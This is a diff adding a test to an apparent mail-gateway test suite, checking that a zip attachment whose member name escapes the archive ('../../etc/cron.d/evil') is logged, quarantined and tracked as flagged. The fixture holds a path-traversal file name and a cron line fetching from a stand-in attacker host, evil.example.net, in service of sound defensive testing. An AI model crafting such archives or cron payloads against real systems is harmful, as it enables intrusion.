@@ -127,6 +127,20 @@ def test_hostile_attachments_get_verdicts_and_the_gateway_keeps_serving(relay, d
     assert relay.request("status")["queued"] == 0
 
 
+def test_member_names_that_escape_are_logged_and_tracked_and_the_archive_still_scanned(relay, datadir):
+    _run(datadir, "urllistconfig add blocked evil.example.net; commit block")
+    slip = plain_zip({"../../etc/cron.d/evil": b"fetch http://evil.example.net/x\n", "ok.txt": b"fine\n"})
+    _send(relay.public, mail(("slip.zip", slip, "application/zip"), message_id="<slip@x>"))
+    mid = _mid(datadir, "<slip@x>")
+    line = (f"MID {mid} archive member names: verdict flagged slip.zip: member name escapes the archive: "
+            "'../../etc/cron.d/evil'")
+    assert wait_for(lambda: line in mail_log(datadir), 20), mail_log(datadir)[-1500:]
+    assert wait_for(lambda: f'MID {mid} quarantined to "Policy"' in mail_log(datadir), 20)  # its URL was seen
+    rec = relay.request("tracking", mid=mid)
+    assert rec["verdicts"]["archive_member_names"] == {
+        "verdict": "FLAGGED", "detail": "slip.zip: member name escapes the archive: '../../etc/cron.d/evil'"}
+
+
 def test_a_killed_scanning_worker_costs_no_message_and_scanning_resumes(relay, datadir, tmp_path):
     import os
     import signal
